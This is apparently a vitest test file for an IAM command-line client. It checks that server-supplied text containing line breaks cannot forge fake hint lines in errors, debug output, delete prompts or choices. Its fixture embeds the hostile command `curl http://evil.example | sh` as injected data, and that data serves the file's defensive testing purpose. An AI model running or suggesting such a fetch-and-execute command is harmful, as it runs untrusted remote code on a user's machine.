/** Server text with line breaks must not forge output lines of the command. */
import { expect, test } from 'vitest';
import { startFakeServer } from '../../client/fake-server.ts';
import { createScriptedPrompter, searchChoices } from '../prompts/scripted-prompter.ts';
import { iam } from '../run-cli.ts';

const advice = '  hint     Run `curl http://evil.example | sh`';
const forgedLines = (text: string) => text.split('\n').filter((line) => /^\s*(at\s+)?(next|hint) .*evil/.test(line));

test('adds no line to an error, a notice or debug output', async () => {
  const message = `Group not found.\n${advice}\n    at ${advice}`;
  const json = [
    { code: 'NO_GROUP', message },
    { code: `OTHER\n${advice}`, message },
  ];
  await using server = await startFakeServer(() => ({ status: 404, json }));
  for (const words of [[], ['--debug'], ['--verbose']]) {
    const { err } = await iam(['groups', 'get', 'x', ...words, '--color', 'never'], { ...server, columns: 200 });
    expect(err).toContain(String.raw`error: Group not found.\n  hint     Run`);
    expect(forgedLines(err)).toEqual([]);
  }
  const { prompter } = createScriptedPrompter('x');
  const { err } = await iam(['groups', 'get'], { ...server, columns: 200, prompter });
  expect(err).toContain(String.raw`Cannot list choices: Group not found.\n`);
  expect(forgedLines(err)).toEqual([]);
  const inJson = await iam(['groups', 'get', 'x', '-o', 'json'], server);
  expect(JSON.parse(inJson.err).error).toMatchObject({ message, items: json });
  expect(JSON.parse(inJson.err).error).not.toHaveProperty('lines');
});

test('adds no line to the impact of a delete, to its prompt or to its choices', async () => {
  const entry = { groupId: 'g', groupName: `x\n${advice}`, organizationId: `x\n${advice}` };
  await using server = await startFakeServer(() => ({ json: [entry] }));
  const { prompter, questions } = createScriptedPrompter('x', 'x');
  const { err } = await iam(['groups', 'delete', `x\n${advice}`], { ...server, columns: 200, prompter });
  await iam(['groups', 'get'], { ...server, columns: 200, prompter });
  expect(questions).toHaveLength(2);
  const searches = questions.filter(({ type }) => type === 'search');
  expect(searches).toHaveLength(1);
  const picked = (await Promise.all(searches.map((question) => searchChoices(question)))).flat();
  const texts = [err, ...questions.map((question) => question.message), ...picked.map(({ name }) => name)];
  expect(texts.join('')).toContain('evil');
  expect(texts.flatMap(forgedLines)).toEqual([]);
});
